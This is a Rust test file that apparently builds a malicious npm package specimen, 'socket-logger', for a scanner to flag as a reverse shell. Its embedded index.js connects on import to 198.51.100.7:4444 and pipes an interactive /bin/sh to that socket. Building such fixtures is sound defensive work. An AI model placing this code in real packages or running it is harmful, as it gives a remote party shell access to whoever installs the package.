//! An npm package that, when it is imported, connects to a bare address and joins a shell to it with pipes.
//!
//! Must be found: no descriptor of the shell is a socket.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const INDEX_JS: &str = r"const net = require('net');
const { spawn } = require('child_process');
const link = net.connect(4444, '198.51.100.7', () => {
  const shell = spawn('/bin/sh', ['-i']);
  link.write('ready\n');
  link.pipe(shell.stdin);
  shell.stdout.pipe(link);
  shell.stderr.pipe(link);
  setTimeout(() => shell.kill(), 1500);
});
link.on('error', () => {});
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("socket-logger", "1.0.2")
        .file("index.js", INDEX_JS)
        .field("main", "index.js".into());
    package.specimen(
        "npm-reverse-shell-pipes",
        Expect::suspicious(&["reverse-shell"]),
    )
}
